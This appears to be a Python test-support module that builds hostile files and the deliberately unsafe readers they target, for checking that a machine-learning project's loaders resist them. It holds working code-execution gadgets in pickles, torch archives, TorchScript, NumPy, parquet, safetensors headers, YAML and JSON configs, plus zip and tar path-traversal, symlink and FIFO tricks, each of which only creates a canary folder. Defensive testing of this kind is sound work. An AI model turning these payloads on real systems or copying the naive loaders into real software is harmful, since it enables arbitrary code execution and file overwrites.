"""Files that run code, or write outside of where they are read, in whoever reads them naively; and that naive reader.

What each of them does is to make a folder: the canary. They are the attacks known of pickles (``CALLS``, in the archive
that ``torch.save`` writes), the other containers that hold pickles, archives whose members lead out of the folder, and
texts that name what a reader should call.
"""

import base64
import io
import json
import marshal
import operator
import os
import pickle
import runpy
import subprocess
import tarfile
import timeit
import warnings
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import partial
from importlib import import_module
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import safetensors.numpy
import torch
import yaml
from numpy.testing._private import utils as numpy_utils
from PIL import Image
from torch import storage

from covary import config
from covary.run import default_run

Make = Callable[[Path], bytes]  # the folder to make -> the file


@dataclass(frozen=True)
class Payload:
    """A hostile file: how it is made, and the reader that it is made for."""

    make: Make
    read: Callable[[Path], object]


@dataclass(frozen=True)
class Call:
    """What a pickle rebuilds by calling something; it may itself be called, in the same way."""

    function: Callable[..., Any]
    arguments: tuple[Any, ...]

    def __reduce__(self) -> tuple[Any, ...]:
        return self.function, self.arguments

    def __call__(self) -> None:
        """Make pickle believe that this is a function."""


def code(canary: Path) -> str:
    """Return Python that makes the canary."""
    return f"__import__('os').mkdir({str(canary)!r})"


def marshalled(canary: Path) -> Call:
    """Bytecode that the file brings with it."""
    return Call(exec, (Call(marshal.loads, (marshal.dumps(compile(code(canary), "canary", "exec")),)), {}))


CALLS: Mapping[str, Callable[[Path], Call]] = {
    "os.system": lambda canary: Call(os.system, (f"mkdir '{canary}'",)),
    "os.mkdir": lambda canary: Call(os.mkdir, (str(canary),)),
    "eval": lambda canary: Call(eval, (code(canary),)),
    "exec": lambda canary: Call(exec, (code(canary),)),
    "subprocess": lambda canary: Call(subprocess.check_call, (["mkdir", str(canary)],)),
    "runpy": lambda canary: Call(runpy._run_code, (code(canary), {})),  # type: ignore[attr-defined]
    "timeit": lambda canary: Call(timeit.timeit, (code(canary), "pass", timeit.default_timer, 1)),
    "importlib": lambda canary: Call(operator.methodcaller("mkdir", str(canary)), (Call(import_module, ("os",)),)),
    "__import__": lambda canary: Call(Call(getattr, (Call(__import__, ("os",)), "mkdir")), (str(canary),)),
    "pathlib": lambda canary: Call(Path.mkdir, (canary,)),
    "marshal": marshalled,
    "numpy runstring": lambda canary: Call(numpy_utils.runstring, (code(canary), {})),
    "nested bytes": lambda canary: Call(storage._load_from_bytes, (pickled(canary),)),
    "list of a map": lambda canary: Call(list, (Call(map, (os.mkdir, [str(canary)])),)),
}


def pickled(canary: Path, *, protocol: int = 2) -> bytes:
    """A bare pickle."""
    return pickle.dumps({"weight": Call(os.mkdir, (str(canary),))}, protocol=protocol)


def archive(call: Callable[[Path], Call], canary: Path) -> bytes:
    """What ``torch.save`` writes of a state dict with a call in it."""
    buffer = io.BytesIO()
    torch.save({"weight": torch.zeros(2), "more": call(canary)}, buffer)
    return buffer.getvalue()


def legacy(canary: Path) -> bytes:
    """What ``torch.save`` wrote before version 1.6."""
    buffer = io.BytesIO()
    torch.save(Call(os.mkdir, (str(canary),)), buffer, _use_new_zipfile_serialization=False)
    return buffer.getvalue()


def members(names: Mapping[str, bytes]) -> bytes:
    """A tar of files."""
    return tar([(_member(name, size=len(content)), content) for name, content in names.items()])


def tar(entries: list[tuple[tarfile.TarInfo, bytes]]) -> bytes:
    """A tar of members."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as opened:
        for info, content in entries:
            opened.addfile(info, io.BytesIO(content))
    return buffer.getvalue()


def _member(name: str, *, size: int = 0, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.size, info.type, info.linkname, info.mode = size, kind, link, 0o755
    return info


def _out(canary: Path) -> str:
    return f"{'../' * 40}{str(canary).lstrip('/')}"


def zipped(canary: Path) -> bytes:
    """A zip with a member that leads out of the folder."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as opened:
        opened.writestr(f"{_out(canary)}/image.png", b"x")
    return buffer.getvalue()


def png() -> bytes:
    """An image."""
    buffer = io.BytesIO()
    Image.fromarray(np.arange(192, dtype=np.uint8).reshape(8, 8, 3)).save(buffer, "PNG")
    return buffer.getvalue()


def array(canary: Path) -> bytes:
    """A ``.npy`` file of objects."""
    buffer = io.BytesIO()
    np.save(buffer, np.array([Call(os.mkdir, (str(canary),))], dtype=object), allow_pickle=True)
    return buffer.getvalue()


def arrow(canary: Path) -> bytes:
    """A parquet file with a column type that is a pickle, as pyarrow read them before version 14 (CVE-2023-47248)."""
    kind = {"ARROW:extension:name": "arrow.py_extension_type", "ARROW:extension:metadata": pickled(canary)}
    schema = pa.schema([pa.field("image", pa.binary(), metadata=kind), pa.field("label", pa.int64())])
    buffer = io.BytesIO()
    pq.write_table(pa.table([[png()], [0]], schema=schema), buffer)
    return buffer.getvalue()


class Script(torch.nn.Module):
    """TorchScript that writes a file while it is loaded (CVE-2025-32434)."""

    def __init__(self, canary: str) -> None:
        super().__init__()
        self.canary = canary

    @torch.jit.export
    def __getstate__(self) -> tuple[str, bool]:  # type: ignore[override]
        return self.canary, self.training

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]) -> None:
        self.canary, self.training = state
        torch.save(torch.zeros(1), state[0])

    def forward(self, images: torch.Tensor) -> torch.Tensor:
        """Return the images."""
        return images


def script(canary: Path) -> bytes:
    """Return the archive of a ``Script``, which is a zip as that of ``torch.save`` is."""
    buffer = io.BytesIO()
    with warnings.catch_warnings(action="ignore"):
        torch.jit.save(torch.jit.script(Script(str(canary))), buffer)
    return buffer.getvalue()


def named(content: Callable[[str], object]) -> Make:
    """A JSON text that is a function of the canary."""
    return lambda canary: json.dumps(content(str(canary))).encode()


def method_file(canary: Path) -> dict[str, Any]:
    """Write a method's file beside the canary; return a run that names it."""
    file = canary.with_name("method.py")
    file.write_text(code(canary))
    run = config.to_json(default_run("shapes:n=16", image_size=8))
    return {**run, "encoder": "resnet8", "stem": "cifar", "method": {**run["method"], "name": str(file)}}


def instantiate(path: Path) -> object:
    """Call what a text says, as Hydra and its kin do."""
    content = yaml.unsafe_load(path.read_bytes())
    target = next(content[key] for key in ("_target_", "_instantiator", "py/function", "__class__") if key in content)
    module, _, name = target.rpartition(".")
    return getattr(import_module(module), name)(*content["args"])


def run_named_file(path: Path) -> object:
    """Run the file that a configuration names."""
    return runpy.run_path(json.loads(path.read_bytes())["run"]["method"]["name"])


def unpack_zip(path: Path) -> None:
    """Write every member where its name says."""
    with zipfile.ZipFile(path) as opened:
        for name in opened.namelist():
            (path.parent / name).parent.mkdir(parents=True, exist_ok=True)


def unpack_tar(path: Path) -> None:
    """Write every member where its name says."""
    with tarfile.open(path) as opened:
        opened.extractall(path.parent, filter="fully_trusted")


def evaluate(path: Path) -> object:
    """Read what looks like a Python value, as was done before there was JSON."""
    return eval(path.read_text())


def unpickle(path: Path) -> object:
    """Read a pickle."""
    return pickle.loads(path.read_bytes())


def unpickle_type(path: Path) -> object:
    """Rebuild a column type as pyarrow did."""
    return pickle.loads(pq.read_schema(path).field("image").metadata[b"ARROW:extension:metadata"])


def unpickle_header(path: Path) -> object:
    """Rebuild what somebody put into a header."""
    with safetensors.safe_open(path, "np") as opened:
        return pickle.loads(base64.b64decode(opened.metadata()["config"]))


def load_all(path: Path) -> object:
    """Read a ``.pt`` as most programs did until torch 2.6."""
    return torch.load(path, weights_only=False)


def load_script(path: Path) -> object:
    """Load TorchScript, which ``torch.load`` did by itself."""
    with warnings.catch_warnings(action="ignore"):
        return torch.jit.load(path)


def load_array(path: Path) -> object:
    """Read a ``.npy`` as it was done until NumPy 1.16.3."""
    return np.load(path, allow_pickle=True)


PAYLOADS: Mapping[str, Payload] = {
    **{f"{name} in .pt": Payload(partial(archive, call), load_all) for name, call in CALLS.items()},
    "pickle": Payload(pickled, unpickle),
    "Python text": Payload(lambda canary: code(canary).encode(), evaluate),
    "pickle of text": Payload(partial(pickled, protocol=0), unpickle),
    "pickle of 2017": Payload(partial(pickled, protocol=4), unpickle),
    "pickle, then image": Payload(lambda canary: pickled(canary) + png(), unpickle),
    "legacy .pt": Payload(legacy, load_all),
    "TorchScript": Payload(script, load_script),
    "object array": Payload(array, load_array),
    "parquet type": Payload(arrow, unpickle_type),
    "safetensors header": Payload(
        lambda canary: safetensors.numpy.save(
            {"weight": np.zeros(2)}, {"config": base64.b64encode(pickled(canary)).decode()}
        ),
        unpickle_header,
    ),
    "YAML tag": Payload(
        lambda canary: f"!!python/object/apply:os.mkdir ['{canary}']".encode(),
        lambda path: yaml.unsafe_load(path.read_bytes()),
    ),
    **{
        f"{key} in JSON": Payload(named(lambda canary, key=key: {key: "os.mkdir", "args": [canary]}), instantiate)
        for key in ("_target_", "_instantiator", "py/function", "__class__")
    },
    "method file in run.json": Payload(
        lambda canary: json.dumps({"schema": 1, "run": method_file(canary), "environment": {}}).encode(), run_named_file
    ),
    "zip with ..": Payload(zipped, unpack_zip),
    "image, then zip with ..": Payload(lambda canary: png() + zipped(canary), unpack_zip),
    "tar with ..": Payload(lambda canary: members({f"{_out(canary)}/0.png": png()}), unpack_tar),
    "tar with absolute path": Payload(lambda canary: members({f"{canary}/0.png": png()}), unpack_tar),
    "tar with link out": Payload(
        lambda canary: tar(
            [
                (_member("0", kind=tarfile.SYMTYPE, link=str(canary.parent)), b""),
                (_member(f"0/{canary.name}/0.png", size=len(png())), png()),
            ]
        ),
        unpack_tar,
    ),
    "tar with pipe": Payload(lambda canary: tar([(_member(str(canary), kind=tarfile.FIFOTYPE), b"")]), unpack_tar),
}
